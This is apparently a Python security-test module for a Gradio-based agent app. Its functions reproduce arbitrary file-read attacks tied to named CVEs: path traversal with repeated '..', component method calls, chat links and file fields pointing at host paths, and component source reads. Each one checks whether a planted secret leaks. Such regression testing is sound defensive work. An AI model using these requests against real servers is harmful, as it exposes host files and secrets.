"""Reading files of the host."""

from tests.agentfabric.attacks.visitor import begin, chat, configure, leaks
from tests.agentfabric.target import Target


def path_with_dots(target: Target) -> bool:
    """CVE-2023-51449, CVE-2024-47164: an upload's folder and `..` lead to any file."""
    folder = target.attacker.upload("a.txt", b"a").rpartition("/")[0]
    return target.attacker.get(f"/file={folder}{'/..' * 20}{target.secret}").text == target.content


def component_server(target: Target) -> bool:
    """CVE-2024-1561, CVE-2024-34511: any method of any component can be called."""
    body = {
        "session_hash": "x",
        "component_id": 1,
        "fn_name": "move_resource_to_block_cache",
        "data": target.secret,
    }
    answer = target.attacker.post("/component_server", body)
    return answer.status == 200 and leaks(target, answer.json())


def path_as_knowledge(target: Target) -> bool:
    """CVE-2024-0964, CVE-2024-1728: a file that is named counts as one that was uploaded."""
    begin(target.attacker)
    configure(target.attacker, knowledge=[{"path": target.secret}])
    return leaks(target, begin(target.attacker))


def path_through_run(target: Target) -> bool:
    """The same by gradio's other address for events."""
    number, _ = target.attacker.function("create_send_message")
    shown = [[{"text": f"[x]({target.secret})", "files": []}, None]]
    data = [shown, {"text": "hello", "files": []}, None, ""]
    begin(target.attacker)
    body = {"data": data, "fn_index": number, "session_hash": target.attacker.session}
    answer = target.attacker.post("/run/predict", body)
    return answer.status == 200 and leaks(target, answer.json())


def link_in_a_chat(target: Target) -> bool:
    """As CVE-2024-47868: a link in a chat makes the server copy the file that it leads to."""
    begin(target.attacker)
    shown = [[{"text": f"[x]({target.secret})", "files": []}, None]]
    question = {"text": "hello", "files": []}
    return leaks(target, target.attacker.event("create_send_message", [shown, question, None, ""]))


def file_of_a_question(target: Target) -> bool:
    """As CVE-2024-0964: ModelScope's component takes a file's path as text, past gradio."""
    begin(target.attacker)
    return leaks(target, chat(target.attacker, [], [target.secret]))


def source_of_a_component(target: Target) -> bool:
    """CVE-2024-47166: files beside a component's own are served."""
    number = {each["component_class_id"] for each in target.attacker.page()["components"]}
    texts = (
        target.attacker.get(f"/custom_component/{each}/../__init__.py").text for each in number
    )
    return any("import gradio" in text or "from gradio" in text for text in texts)


def file_of_a_published_agent(target: Target) -> bool:
    """What its visitors say makes the page show them the agent's own files, and the host's."""
    agent = target.room / "state" / "config" / "local_user" / "secret"
    agent.write_text(target.content)
    found = []
    for path in (str(agent), target.secret):
        question = {"text": "hello", "files": []}
        shown = [[{"text": f"[x]({path})", "files": []}, None]]
        found.append(leaks(target, target.attacker.event(None, [shown, question, None])))
        asked = {"text": "hello", "files": [path]}
        found.append(leaks(target, target.attacker.event(None, [[], asked, None])))
    assert len(set(found)) == 1, found
    return found[0]


ATTACKS = [
    path_with_dots,
    component_server,
    path_as_knowledge,
    path_through_run,
    link_in_a_chat,
    file_of_a_question,
    source_of_a_component,
]
